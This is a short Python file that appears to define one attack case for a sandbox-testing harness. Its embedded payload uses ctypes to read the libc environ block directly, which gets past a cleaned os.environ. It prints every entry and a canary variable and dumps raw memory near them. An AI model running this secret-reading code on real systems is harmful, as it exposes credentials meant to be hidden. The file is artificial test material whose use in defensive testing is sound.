from attack import Attack

# os.environ may have been cleaned while the block that the C library and the kernel hold was not
_READ = """
import ctypes, os
block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
place = 0
while block[place]:
    print(block[place])
    place += 1
print(os.environ, os.environb, os.getenv("KAMLAB_CANARY"))
above = ctypes.cast(block, ctypes.c_void_p).value
print(ctypes.string_at(above, 2000), ctypes.string_at(block[0], 2000))
figure = os.environ["KAMLAB_FIGURE"]
"""
ATTACK = Attack(
    "to find secrets in the environment",
    figure=_READ,
    points={"pick": 2.0},
    reason="KeyError",
)
